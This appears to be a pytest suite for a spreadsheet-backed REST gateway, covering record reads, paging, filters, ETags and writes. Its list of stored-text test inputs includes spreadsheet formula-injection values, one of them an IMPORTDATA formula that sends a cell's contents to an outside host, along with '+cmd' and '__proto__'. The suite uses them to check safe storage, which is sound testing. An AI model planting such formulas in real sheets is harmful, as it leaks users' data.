"""Whole answers to single requests: records, pages, selected fields, and what a write leaves.

Rules: a case is a request and its answer; worksheets are those of `BOOKS`.
"""

import json
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from gateway.query.query import MAX_CONDITIONS, MAX_DEPTH
from gateway.storage.key_store import Grants, KeyRequest
from gateway.web.parameters import MAX_WHERE_BYTES
from tests.fakes import FakeWorksheet, Formatted, Held
from tests.journeys.failure import refused
from tests.surfaces.stage import GRANTED, Surface, open_surface

Cells = Sequence[Sequence[Held | None]]
PRICE, DAY, SUM = Formatted(1250.5, "$1,250.50"), Formatted(44377, "2021-06-30"), Formatted(3, "3")
BOOKS: Mapping[str, Cells] = {
    "HeaderOnly": [["name", "amount"]],
    "Long": [["number"], *([number] for number in range(1, 131))],
    "Duplicates": [["name", "amount", "name"], ["a", 1, "second"]],
    "BlankRow": [["name", "amount"], ["a", 1], [], ["b", 2]],
    "Totals": [["name", "amount"], ["a", 1], ["b", 2], [], ["", 3]],
    "Mixed": [
        ["label", "value", "when", "done"],
        ["zip", "007", Formatted(43831, "2020-01-01"), True],
        ["price", PRICE, DAY, False],
        ["nothing"],
        ["last", 1250],
    ],
    "Commas": [["a,b", "c"], [1, 2]],
    "Sums": [["a", "b", "sum", "note"], [1, 2, SUM, "x"]],
}
KEYS = {
    name: KeyRequest(name=name, plan=name, grants=Grants(spreadsheets=GRANTED))
    for name in ("paid", "free")
}
PLANS: Mapping[str, object] = {f"plans.{name}.requests_per_minute": 0 for name in KEYS}


def furnish(surface: Surface) -> Surface:
    surface.reset()
    for title, lines in BOOKS.items():
        surface.sheets.add(title, lines)
    return surface


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Surface]:
    with open_surface(tmp_path_factory.mktemp("answers"), KEYS, PLANS) as surface:
        yield surface


@pytest.fixture
def surface(opened: Surface) -> Surface:
    return furnish(opened)


def sheet(surface: Surface, title: str) -> FakeWorksheet:
    """Return the title of a worksheet that only this test uses."""
    (found,) = [each for each in surface.sheets.worksheets if each.title == title]
    return found


def target(text: str) -> str:
    return quote(text, safe="/?&=%,")


def text_of(surface: Surface, path: str) -> str:
    answer = surface.send("GET", target(path))
    assert answer.status_code == 200, answer.content
    return answer.content.decode()


NOTHING = '{"rowIndex":4,"label":"nothing","value":null,"when":null,"done":null}'
ZIP = '{"rowIndex":2,"label":"zip","value":"007","when":"2020-01-01","done":"TRUE"}'
RECORDS: Mapping[str, str] = {
    "Mixed/3": '{"rowIndex":3,"label":"price","value":"$1,250.50","when":"2021-06-30",'
    '"done":"FALSE"}',
    "Mixed/4": NOTHING,
    "BlankHeader/2": '{"rowIndex":2,"name":"a","amount":"1"}',
    "BlankFirst/2": '{"rowIndex":2,"name":"a","amount":"1"}',
    "Duplicates/2": '{"rowIndex":2,"name":"a","amount":"1"}',
    "RowIndex/2": '{"rowIndex":2,"name":"a"}',
    "Spaced/2": '{"rowIndex":2," name ":"a","amount":"1"}',
    "BlankRow/3": '{"rowIndex":3,"name":null,"amount":null}',
    "Totals/5": '{"rowIndex":5,"name":null,"amount":"3"}',
    "Mixed/2?keys=done,label": '{"rowIndex":2,"label":"zip","done":"TRUE"}',
    "Mixed/2?keys= done , label ": '{"rowIndex":2,"label":"zip","done":"TRUE"}',
    'Mixed/2?keys=["done","label"]': '{"rowIndex":2,"label":"zip","done":"TRUE"}',
    "Mixed/2?keys=label,unknown": '{"rowIndex":2,"label":"zip"}',
    "Mixed/2?keys=rowIndex,label": '{"rowIndex":2,"label":"zip"}',
    "Mixed/2?keys=,,,": '{"rowIndex":2}',
    "Mixed/2?keys=": ZIP,
    "Spaced/2?keys=name": '{"rowIndex":2," name ":"a"}',
    'Commas/2?keys=["a,b"]': '{"rowIndex":2,"a,b":"1"}',
    "RowIndex/2?keys=rowIndex": '{"rowIndex":2}',
}


@pytest.mark.parametrize("path", RECORDS)
def test_a_record(surface: Surface, path: str) -> None:
    """A record has `rowIndex`, then each field in sheet order, with displayed texts."""
    worksheet, _, rest = path.partition("/")
    row, _, query = rest.partition("?")
    page = text_of(surface, f"{worksheet}?skip={int(row) - 2}&limit=1&{query}")

    assert text_of(surface, path) == RECORDS[path]
    assert page.partition('],"hasNextPage":')[0] == '{"results":[' + RECORDS[path]


LISTS: Mapping[str, tuple[Sequence[int], bool]] = {
    "BlankRow": ([2, 3, 4], False),
    "Totals": ([2, 3, 4, 5], False),
    "HeaderOnly": ([], False),
    "Long": (range(2, 26), True),
    "Long?limit=": (range(2, 26), True),
    "Long?limit=0": ([], True),
    "Long?limit=0&skip=130": ([], False),
    "Long?limit=1": ([2], True),
    "Long?limit=007": (range(2, 9), True),
    "Long?limit= 5 ": (range(2, 7), True),
    "Long?limit=&limit=5": (range(2, 7), True),
    "Long?limit=99": (range(2, 101), True),
    "Long?limit=100": (range(2, 102), True),
    "Long?limit=101": (range(2, 102), True),
    "Long?limit=1000000000": (range(2, 102), True),
    "Long?limit=&skip=110": (range(112, 132), False),
    "Long?skip=&limit=2": ([2, 3], True),
    "Long?skip=0&limit=2": ([2, 3], True),
    "Long?skip=127&limit=2": ([129, 130], True),
    "Long?skip=128&limit=2": ([130, 131], False),
    "Long?skip=129&limit=2": ([131], False),
    "Long?skip=130": ([], False),
    f"Long?skip={'9' * 5000}": ([], False),
    "Long?order=-rowIndex&limit=2": ([131, 130], True),
    'Long?where={"number":{"$gt":127}}&skip=1&limit=2': ([130, 131], False),
    'Long?where={"number":{"$gt":127}}&limit=3': ([129, 130, 131], False),
    'Long?where={"number":{"$gt":120}}&order=-number&skip=2&limit=2': ([129, 128], True),
    'Mixed?keys=label&where={"done":true}&order=-value': ([2], False),
    "Mixed?order=-done,value": ([2, 3, 5, 4], False),
    "Mixed?order= -done , value ": ([2, 3, 5, 4], False),
    'Mixed?where={"label":{"$text":"I"}}': ([2, 3, 4], False),
    'Mixed?where={"rowIndex":"3"}': ([3], False),
    'Mixed?where={"done":1}': ([], False),
    'Mixed?where={"value":"1250.00"}': ([5], False),
    'Mixed?where={"when":"2021-06-30T00:00:00+02:00"}': ([3], False),
    'Mixed?where={"$or":[{"label":"zip"}],"done":false}': ([], False),
    'BlankRow?where={"name":null}': ([3], False),
    'Totals?where={"amount":3}': ([5], False),
    'Totals?where={"name":{"$exists":false}}': ([4, 5], False),
    'Duplicates?where={"name":"second"}': ([], False),
    'Spaced?where={"name":"a"}': ([2], False),
    'Spaced?where={" name ":"a"}': ([2], False),
    'RowIndex?where={"rowIndex":2}': ([2], False),
    'RowIndex?where={"rowIndex":99}': ([], False),
    'BlankFirst?where={"amount":{"$lt":2}}': ([2], False),
    'HeaderOnly?where={"name":null}': ([], False),
}


@pytest.mark.parametrize("path", LISTS, ids=lambda path: path[:60])
def test_the_rows_of_a_list(surface: Surface, path: str) -> None:
    """A list has 24 rows by default and at most 100. It filters, orders, then pages."""
    page = json.loads(text_of(surface, path))
    rows, has_next = LISTS[path]

    assert [*page] == ["results", "hasNextPage"]
    assert [record["rowIndex"] for record in page["results"]] == [*rows]
    assert page["hasNextPage"] is has_next


NOTS = '{"$not":' * (MAX_DEPTH - 1)
LARGEST: Mapping[str, str] = {
    "depth": '{"$not":' * (MAX_DEPTH - 1) + '{"label":{"$ne":"zip"}}' + "}" * (MAX_DEPTH - 1),
    "depth in a field": '{"label":'
    + '{"$not":' * (MAX_DEPTH - 1)
    + '{"$ne":"zip"}'
    + "}" * MAX_DEPTH,
    "depth of lists": '{"$and":[' * (MAX_DEPTH - 1) + '{"label":"zip"}' + "]}" * (MAX_DEPTH - 1),
    "conditions": json.dumps({"$or": [{"label": "zip"}] * MAX_CONDITIONS}),
    "bytes": '{"label":{"$in":["zip","' + "x" * (MAX_WHERE_BYTES - 28) + '"]}}',
}


@pytest.mark.parametrize("limit", LARGEST)
def test_a_filter_at_its_limit(surface: Surface, limit: str) -> None:
    """A filter with the maximum depth, length and number of conditions is accepted."""
    where = quote(LARGEST[limit], safe="[]{}:,$")
    found = surface.send("GET", f"Mixed?where={where}").json()["results"]

    assert [record["label"] for record in found] == ["zip"]


@pytest.mark.parametrize("path", ["Mixed", "Mixed/2", "Mixed?limit=0", "Mixed?skip=999"])
def test_keys_without_a_field(surface: Surface, path: str) -> None:
    """An unknown field in `keys` is an error that lists the fields, even if no row matches."""
    mark = "&" if "?" in path else "?"
    code, answer = surface.refused("GET", f"{path}{mark}keys=unknown", reads=1)

    assert code == (400, 4002)
    assert '"label", "value", "when"' in answer.json()["message"]


@pytest.mark.parametrize(
    "query", ["where={}", 'where={"name":"a"}', "order=name", "order=rowIndex"]
)
def test_a_plan_without_filter_and_order(surface: Surface, query: str) -> None:
    """A plan without searches gets 403 for a filter or order.

    Empty parameters and pages are allowed.
    """
    code, _ = surface.refused("GET", target(f"Cities?{query}"), key="free")
    empty = surface.send("GET", "Cities?where=&order=&limit=&skip=&keys=", key="free")
    page = surface.send("GET", "Cities?limit=1&skip=1&keys=name", key="free")

    assert code == (403, 4034)
    assert empty.content == surface.send("GET", "Cities").content
    assert page.json()["results"] == [{"rowIndex": 3, "name": "Los Angeles"}]


# Method, target, what is sent; the answer, and the last line of the worksheet or that of its row.
WRITES: Mapping[str, tuple[str, str, str, str, Sequence[Any]]] = {
    "columns by the header": (
        "POST", "Cities", '{"population":961855,"name":"Austin"}',
        '{"rowIndex":5,"name":"Austin","population":"961855"}', ["Austin", "", "", 961855],
    ),
    "below a header": (
        "POST", "HeaderOnly", '{"name":"n","amount":7}',
        '{"rowIndex":2,"name":"n","amount":"7"}', ["n", 7],
    ),
    "beside a blank header": (
        "POST", "BlankHeader", '{"name":"n","amount":7}',
        '{"rowIndex":3,"name":"n","amount":"7"}', ["n", "", 7],
    ),
    "behind a blank header": (
        "POST", "BlankFirst", '{"name":"n","amount":7}',
        '{"rowIndex":3,"name":"n","amount":"7"}', ["", "n", 7],
    ),
    "first of two equal headers": (
        "POST", "Duplicates", '{"name":"n"}', '{"rowIndex":3,"name":"n"}', ["n"],
    ),
    "below a blank row": (
        "POST", "BlankRow", '{"name":"n","amount":7}',
        '{"rowIndex":5,"name":"n","amount":"7"}', ["n", 7],
    ),
    "below totals": (
        "POST", "Totals", '{"name":"n","amount":7}',
        '{"rowIndex":6,"name":"n","amount":"7"}', ["n", 7],
    ),
    "trimmed names": (
        "POST", "Spaced", '{"name":"n"," amount":2}',
        '{"rowIndex":3," name ":"n","amount":"2"}', ["n", 2],
    ),
    "a column named rowIndex": (
        "POST", "RowIndex", '{"rowIndex":7,"name":"n"}', '{"rowIndex":3,"name":"n"}', ["", "n"],
    ),
    "a name as written": (
        "PATCH", "Spaced/2", '{" name ":"n"}', '{"rowIndex":2," name ":"n"}', ["n", 1],
    ),
    "null and an empty text": (
        "POST", "Mixed", '{"label":"n","value":null,"when":""}',
        '{"rowIndex":6,"label":"n","value":null,"when":null}', ["n"],
    ),
    "null empties": ("PATCH", "Totals/3", '{"name":null}', '{"rowIndex":3,"name":null}', ["", 2]),
    "an empty text empties": (
        "PATCH", "Totals/3", '{"name":""}', '{"rowIndex":3,"name":null}', ["", 2],
    ),
    "blank columns and the rest stay": (
        "PUT", "BlankHeader/2", '{"name":"z"}', '{"rowIndex":2,"name":"z"}', ["z", "hidden", 1],
    ),
    "the second of two equal headers stays": (
        "PATCH", "Duplicates/2", '{"name":"z"}', '{"rowIndex":2,"name":"z"}', ["z", 1, "second"],
    ),
    "formulas stay": (
        "PATCH", "Sums/2", '{"a":10,"b":20,"note":"new"}',
        '{"rowIndex":2,"a":"10","b":"20","note":"new"}', [10, 20, SUM, "new"],
    ),
    "a whole record": (
        "PUT", "Mixed/3", RECORDS["Mixed/3"], RECORDS["Mixed/3"], ["price", PRICE, DAY, False],
    ),
    "a whole record with one change": (
        "PUT", "Mixed/3", RECORDS["Mixed/3"].replace('"price"', '"cost"'),
        RECORDS["Mixed/3"].replace('"price"', '"cost"'), ["cost", PRICE, DAY, False],
    ),
    "a blank record": (
        "PUT", "BlankRow/3", RECORDS["BlankRow/3"], RECORDS["BlankRow/3"], [],
    ),
    "a form": (
        "POST", "HeaderOnly", "name=%3D1%2B2+%26+%C3%B6&amount=007&rowIndex=9",
        '{"rowIndex":2,"name":"=1+2 & ö","amount":"007"}', ["=1+2 & ö", "007"],
    ),
    "an empty field of a form": (
        "PATCH", "Totals/3", "name=", '{"rowIndex":3,"name":null}', ["", 2],
    ),
    **{
        f"{method} of {sent}": (
            method, path, f'{{"name":"n","amount":{sent}}}',
            f'{{"rowIndex":{row},"name":"n","amount":"{shown}"}}', ["n", json.loads(sent)],
        )
        for sent, shown in (
            ("5", "5"), ("-5", "-5"), ("0", "0"), ("0.25", "0.25"), ("1e3", "1000"),
            ("true", "TRUE"), ("false", "FALSE"),
        )
        for method, path, row in (("POST", "BlankRow", 5), ("PATCH", "BlankRow/4", 4))
    },
}  # fmt: skip


@pytest.mark.parametrize("name", WRITES)
def test_what_a_write_leaves(surface: Surface, name: str) -> None:
    """The answer shows the sent fields as displayed.

    The cells have the sent values, other cells stay.
    """
    method, path, body, said, held = WRITES[name]
    title, _, row = path.partition("/")
    before = dict(sheet(surface, title).cells)
    form = [] if body[0] == "{" else [("Content-Type", "application/x-www-form-urlencoded")]
    others = {each: cells for each, cells in surface.cells().items() if each != title}

    answer = surface.send(method, path, headers=form, body=body.encode())

    at = int(row or answer.json()["rowIndex"])
    after = {place: cell for place, cell in before.items() if place[0] != at}
    after |= {(at, column): cell for column, cell in enumerate(held, 1) if cell != ""}
    assert (answer.status_code, answer.content.decode()) == (200 if row else 201, said)
    assert {place: (type(cell), cell) for place, cell in sheet(surface, title).cells.items()} == {
        place: (type(cell), cell) for place, cell in after.items()
    }
    assert {each: surface.cells()[each] for each in others} == others
    assert (surface.calls.writes == 0) is (after == before)


TEXTS = [
    *("=1+2", '=IMPORTDATA("https://example.org/"&A2)', "\t=1", "+cmd", "@x", "-1+1", "'quoted"),
    *("007", "1250", "1,250", "50%", "TRUE", "2020-01-01", "+441632960000", " blanks ", "nan"),
    *("two\nlines", "１２３", "😀", "NaN", "inf", "-inf", "1e400", "9" * 5000, "#REF!", "null"),
    *("x" * 50_000, "\u202e", '"', "\\", "__proto__", "\x7f"),
]


@pytest.mark.parametrize("text", TEXTS, ids=lambda text: ascii(text)[:30])
def test_a_text_is_stored_as_it_is(surface: Surface, text: str) -> None:
    """A text is stored unchanged, listed as valid JSON, and found by a filter."""
    body = json.dumps({"name": text}).encode()
    answers = [
        surface.send("POST", "HeaderOnly", body=body),
        surface.send("PATCH", "BlankRow/4", body=body),
    ]
    where = quote(body.decode()) if len(text) < 1000 else "{}"

    assert [answer.json() for answer in answers] == [
        {"rowIndex": 2, "name": text},
        {"rowIndex": 4, "name": text},
    ]
    assert sheet(surface, "HeaderOnly").cells[2, 1] == text
    assert sheet(surface, "BlankRow").cells[4, 1] == text
    assert json.loads(text_of(surface, "HeaderOnly"))["results"][0]["name"] == text
    found = surface.send("GET", f"BlankRow?where={where}&order=-rowIndex").json()["results"]
    assert found[0]["name"] == text


def test_a_list_of_rows(surface: Surface) -> None:
    """A list of rows costs one write, and each answer has its row number and the sent fields."""
    body = (
        b'[{"name":"Austin","population":961855},{"country":"USA"},'
        b'{"rowIndex":2,"population":true,"name":"=1+1","state":null}]'
    )
    answer = surface.send("POST", "Cities", body=body)

    assert answer.status_code == 201
    assert answer.json()["results"] == [
        {"rowIndex": 5, "name": "Austin", "population": "961855"},
        {"rowIndex": 6, "country": "USA"},
        {"rowIndex": 7, "name": "=1+1", "state": None, "population": "TRUE"},
    ]
    assert not {"location", "etag"} & set(answer.headers)
    assert sheet(surface, "Cities").lines()[4:] == [
        ["Austin", "", "", "961855"],
        ["", "", "USA"],
        ["=1+1", "", "", "TRUE"],
    ]
    assert surface.calls.writes == 1


def test_the_largest_list_of_rows(surface: Surface) -> None:
    """500 rows are one write. 501 rows are rejected without a call."""
    rows = [{"name": f"n{number}"} for number in range(500)]
    code, refusal = surface.refused(
        "POST", "HeaderOnly", body=json.dumps([*rows, {"name": "more"}]).encode()
    )
    answer = surface.send("POST", "HeaderOnly", body=json.dumps(rows).encode())

    assert code == (400, 104)
    assert [problem["pointer"] for problem in refusal.json()["errors"]] == ["#"]
    assert [record["rowIndex"] for record in answer.json()["results"]] == [*range(2, 502)]
    assert surface.calls.writes == 1


@pytest.mark.parametrize(
    ("setting", "shown"),
    [("null", None), ("", ""), ("omit", ...)],
    ids=["null", "empty text", "omit"],
)
def test_empty_cells_are_as_configured(tmp_path: Path, setting: str, shown: object) -> None:
    """`api.empty_cell` makes empty cells null, "" or absent in every kind of answer."""
    omitted = json.loads(NOTHING)
    record = {name: shown if cell is None else cell for name, cell in omitted.items()}
    record = {name: cell for name, cell in record.items() if cell is not ...}
    emptied = {} if shown is ... else {"when": shown}
    with open_surface(tmp_path, KEYS, {"api.empty_cell": setting}) as bare:
        surface = furnish(bare)
        page = surface.send("GET", "Mixed?skip=2&limit=1").json()["results"]
        updated = surface.send("PATCH", "Mixed/2", body=b'{"when":null}').json()
        created = surface.send("POST", "Mixed", body=b'[{"label":"x","when":null}]').json()
        rows = surface.send("PATCH", "Mixed", body=b'[{"rowIndex":2,"when":null}]').json()
        upserted = surface.send(
            "POST", "Mixed?on_conflict=label", body=b'{"label":"zip","when":""}'
        )
        conflict = surface.send(
            "PATCH", "Mixed/4", body=b'{"label":"x"}', headers=[("If-Match", '"other"')]
        ).json()

        assert surface.send("GET", "Mixed/4").json() == page[0] == conflict["existing"] == record
        assert updated == {"rowIndex": 2, **emptied}
        assert rows["results"] == [{"rowIndex": 2, **emptied}]
        assert upserted.json()["results"] == [
            {"rowIndex": 2, "created": False, "label": "zip", **emptied}
        ]
        assert created["results"] == [{"rowIndex": 6, "label": "x", **emptied}]


def test_unknown_fields_can_be_ignored(tmp_path: Path) -> None:
    """Ignored fields are named in a header, escaped and once.

    A row without known fields is an error.
    """
    cases = {
        '{"name":"a","größe":1,"a,b":2,"line\\nbreak":3,"🏙":null}': (
            '"gr\\u00f6\\u00dfe", "a,b", "line\\nbreak", "\\ud83c\\udfd9"'
        ),
        '[{"name":"x","a":1},{"name":"y"},{"b":2,"name":"z","a":3}]': '"a", "b"',
        '{"name":"known"}': None,
    }
    with open_surface(tmp_path, KEYS, {"api.unknown_fields": "ignore"}) as bare:
        surface = furnish(bare)
        for body, named in cases.items():
            answer = surface.send("POST", "HeaderOnly", body=body.encode())
            assert (answer.status_code, answer.headers.get("x-ignored-fields")) == (201, named)
        update = surface.send("PATCH", "HeaderOnly/2", body=b'{"amount":5,"surplus":1}')
        for method, target_, body in (
            ("PATCH", "HeaderOnly", '[{"rowIndex":2,"amount":5,"surplus":1}]'),
            ("PATCH", 'HeaderOnly?where={"rowIndex":2}', '{"amount":5,"surplus":1}'),
            ("POST", "HeaderOnly?on_conflict=name", '{"name":"a","surplus":1}'),
        ):
            several = surface.send(method, target(target_), body=body.encode())
            assert several.headers["x-ignored-fields"] == '"surplus"'
        strangers = [
            surface.send("POST", "HeaderOnly", body=body)
            for body in (b'{"surplus":1}', b'[{"name":"x"},{"a":1}]')
        ]

        assert update.json() == {"rowIndex": 2, "amount": "5"}
        assert update.headers["x-ignored-fields"] == '"surplus"'
        assert [refused(answer) for answer in strangers] == [(400, 104)] * 2
        assert strangers[1].json()["errors"][0]["pointer"] == "#/1"
        assert [line[0] for line in sheet(surface, "HeaderOnly").lines()] == [
            *("name", "a", "x", "y", "z", "known"),
        ]


@pytest.mark.parametrize(
    ("maximum", "limit", "count"),
    [(5, "", 5), (5, "100", 5), (5, "4", 4), (120, "", 24), (120, "125", 120)],
)
def test_a_plan_has_its_own_maximum(tmp_path: Path, maximum: int, limit: str, count: int) -> None:
    """`max_limit` is the largest `limit` of a plan, with and without a filter."""
    own = {
        "plans.paid.max_limit": maximum,
        "plans.paid.where_and_order": False,
        "plans.free.where_and_order": True,
    }
    with open_surface(tmp_path, KEYS, own) as bare:
        surface = furnish(bare)
        page = surface.send("GET", f"Long?limit={limit}").json()
        other = surface.send("GET", "Long?limit=100&order=-number", key="free").json()

        assert (len(page["results"]), page["hasNextPage"]) == (count, True)
        assert len(other["results"]) == 100
        assert surface.send("GET", "Long?order=-number").status_code == 403


def tag_of(surface: Surface, path: str, key: str = "paid") -> str:
    return surface.send("GET", path, key=key).headers["etag"]


@pytest.mark.parametrize("path", ["Cities/2", "Cities", "Cities?where=%7B%22name%22%3A%22x%22%7D"])
@pytest.mark.parametrize("method", ["GET", "HEAD"])
def test_what_a_client_has_is_not_sent_again(surface: Surface, method: str, path: str) -> None:
    """`If-None-Match` with the current ETag, weak or strong, gives 304 without a body."""
    tag = tag_of(surface, path)

    for value in (tag, f'"x", {tag}', f"W/{tag.removeprefix('W/')}", "*"):
        answer = surface.send(method, path, headers=[("If-None-Match", value)])

        assert (answer.status_code, answer.content) == (304, b"")
        assert answer.headers["etag"] == tag
        assert answer.headers["cache-control"] == "private, no-cache"
        assert "content-type" not in answer.headers
        assert answer.headers["x-request-id"]


@pytest.mark.parametrize("value", ['"x"', "", "null", 'W/"x", "y"'])
@pytest.mark.parametrize("path", ["Cities/2", "Cities"])
def test_what_a_client_does_not_have_is_sent(surface: Surface, path: str, value: str) -> None:
    """`If-None-Match` with another or malformed ETag gives the whole answer."""
    answer = surface.send("GET", path, headers=[("If-None-Match", value)])

    assert answer.content.decode() == text_of(surface, path)


@pytest.mark.parametrize(
    ("path", "body", "code"),
    [
        ("Cities/99", b'{"name":"x"}', (404, 103)),
        ("Cities/1", b'{"name":"x"}', (404, 103)),
        ("Nowhere/2", b'{"name":"x"}', (404, 105)),
        ("Cities/2", b'{"name":[]}', (400, 104)),
    ],
)
@pytest.mark.parametrize("if_match", ["*", '"x"'])
def test_other_errors_come_before_a_condition(
    surface: Surface, path: str, body: bytes, code: tuple[int, int], if_match: str
) -> None:
    """Other errors win over a conditional header, in reads too."""
    update = surface.send("PATCH", path, headers=[("If-Match", if_match)], body=body)
    read = surface.send("GET", path, headers=[("If-None-Match", "*")])

    assert refused(update) == code
    assert code[0] == 400 or refused(read) == code


def test_an_update_under_a_tag(surface: Surface) -> None:
    """An update with the ETag of the row, also in a list, succeeds.

    The ETag of a list page fails.
    """
    page, rest = tag_of(surface, "Cities?limit=2"), tag_of(surface, "Cities?skip=2")
    tags = ["*", tag_of(surface, "Cities/2"), f'"x,y", {tag_of(surface, "Cities/2")}', page]
    answers = [
        surface.send("PATCH", "Cities/2", headers=[("If-Match", tag)], body=b'{"name":"New York"}')
        for tag in tags
    ]
    changed = surface.send("PATCH", "Cities/2", body=b'{"name":"NYC"}')

    assert [answer.status_code for answer in answers] == [200, 200, 200, 412]
    assert changed.headers["etag"] == tag_of(surface, "Cities/2?keys=name", "free") != tags[1]
    assert tag_of(surface, "Cities?limit=2") != page
    assert tag_of(surface, "Cities?skip=2") == rest
